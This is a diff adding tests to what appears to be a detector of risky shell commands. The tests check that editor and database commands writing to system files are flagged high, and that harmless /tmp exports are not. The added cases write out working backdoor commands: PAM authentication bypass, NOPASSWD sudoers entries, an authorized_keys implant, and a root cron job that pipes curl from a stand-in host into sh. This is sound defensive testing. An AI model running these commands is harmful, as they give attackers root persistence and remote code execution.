@@ -89,3 +89,25 @@ def test_guards_switched_off_by_their_settings(command: str, at_least: str) -> N
 ])
 def test_guards_left_on_stay_quiet(command: str) -> None:
     assert stays_quiet(command), judged(command)
+
+
+@each_form("command,at_least", [
+    ("emacs --batch --eval '(write-region \"auth sufficient pam_permit.so\\n\" nil \"/etc/pam.d/sshd\" t)'", "high"),
+    ("nvim --headless -c 'call writefile([\"ops ALL=(ALL) NOPASSWD:ALL\"], \"/etc/sudoers\", \"a\")' -c q", "high"),
+    ("psql -c \"COPY (SELECT 'ops ALL=(ALL) NOPASSWD:ALL') TO '/etc/sudoers.d/ops'\"", "high"),
+    ("mysql -e \"SELECT '* * * * * root curl -s x.example/a|sh' INTO OUTFILE '/etc/cron.d/x'\"", "high"),
+    ("duckdb -c \"COPY (SELECT 'ops ALL=(ALL) NOPASSWD:ALL') TO '/etc/sudoers.d/ops' (HEADER false)\"", "high"),
+    ("mariadb -e \"SELECT 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx me' INTO DUMPFILE '/root/.ssh/authorized_keys'\"",
+     "high"),
+])
+def test_editors_and_databases_writing_meaningful_lines(command: str, at_least: str) -> None:
+    assert reaches(command, at_least), judged(command)
+
+
+@each_form("command", [
+    "emacs --batch --eval '(write-region \"x\" nil \"/tmp/x.txt\")'",
+    "mysql -e \"SELECT 'x' INTO OUTFILE '/tmp/out.csv'\"",
+    "psql -c \"COPY users TO '/tmp/users.csv' CSV HEADER\"",
+])
+def test_their_exports_stay_quiet(command: str) -> None:
+    assert stays_quiet(command), judged(command)
